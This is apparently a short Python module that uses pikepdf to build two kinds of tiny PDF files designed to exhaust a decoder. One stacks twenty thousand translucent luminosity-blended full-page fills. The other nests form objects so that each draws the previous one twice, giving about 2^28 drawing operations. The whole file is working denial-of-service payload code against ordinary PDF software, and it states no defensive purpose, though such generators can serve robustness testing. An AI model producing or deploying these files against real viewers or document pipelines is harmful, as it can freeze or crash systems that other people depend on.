"""Files of a few kilobytes that keep a PDF decoder busy for ever, or let it grow out of bounds."""

import zlib
from pathlib import Path

import pikepdf


def endless(path: Path) -> None:
    """Write a PDF that lays twenty thousand see-through sheets over a whole page."""
    pdf = pikepdf.new()
    sheet = pikepdf.Dictionary(ca=0.5, BM=pikepdf.Name.Luminosity)
    resources = pikepdf.Dictionary(ExtGState=pikepdf.Dictionary(G=sheet))
    _page(pdf, resources, b"/G gs 0.9 g " + b"0 0 600 800 re f " * 20_000)
    _save(pdf, path)


def bloated(path: Path, depth: int = 28) -> None:
    """Write a PDF whose page draws a form that draws another twice, and so on: 2 to the power of *depth* objects."""
    pdf = pikepdf.new()
    form = _form(pdf, b"0 0 1 1 re f", pikepdf.Dictionary())
    for _ in range(depth):
        form = _form(pdf, b"/F Do /F Do", pikepdf.Dictionary(XObject=pikepdf.Dictionary(F=form)))
    _page(pdf, pikepdf.Dictionary(XObject=pikepdf.Dictionary(F=form)), b"/F Do")
    _save(pdf, path)


def _form(pdf: pikepdf.Pdf, content: bytes, resources: pikepdf.Dictionary) -> pikepdf.Stream:
    form = pdf.make_stream(content)
    form.Type, form.Subtype, form.Resources = pikepdf.Name.XObject, pikepdf.Name.Form, resources
    form.BBox = pikepdf.Array([0, 0, 600, 800])
    return form


def _page(pdf: pikepdf.Pdf, resources: pikepdf.Dictionary, content: bytes) -> None:
    packed = pikepdf.Stream(pdf, zlib.compress(content, 9))
    packed.Filter = pikepdf.Name.FlateDecode
    page = pikepdf.Dictionary(
        Type=pikepdf.Name.Page, MediaBox=pikepdf.Array([0, 0, 600, 800]), Resources=resources, Contents=packed
    )
    pdf.pages.append(pikepdf.Page(pdf.make_indirect(page)))


def _save(pdf: pikepdf.Pdf, path: Path) -> None:
    hidden = path.with_name("." + path.name)
    pdf.save(hidden)
    hidden.rename(path)
